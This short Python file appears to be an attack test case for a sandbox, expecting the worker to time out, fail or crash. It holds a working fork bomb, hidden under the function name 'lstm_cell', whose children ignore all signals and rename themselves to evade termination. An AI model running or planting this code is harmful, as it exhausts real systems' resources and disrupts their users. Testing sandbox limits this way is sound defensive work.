# /// attack
# row = 7
# expect = ["TIMED_OUT", "FAILED", "CRASHED"]
# invariant = "processes are bounded, and end with the worker"
# ///
"""A fork bomb whose children ignore every signal and rename themselves."""

import ctypes
import os
import signal


def lstm_cell(*arguments):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, b"katas-attack", 0, 0, 0)
        except OSError:
            pass
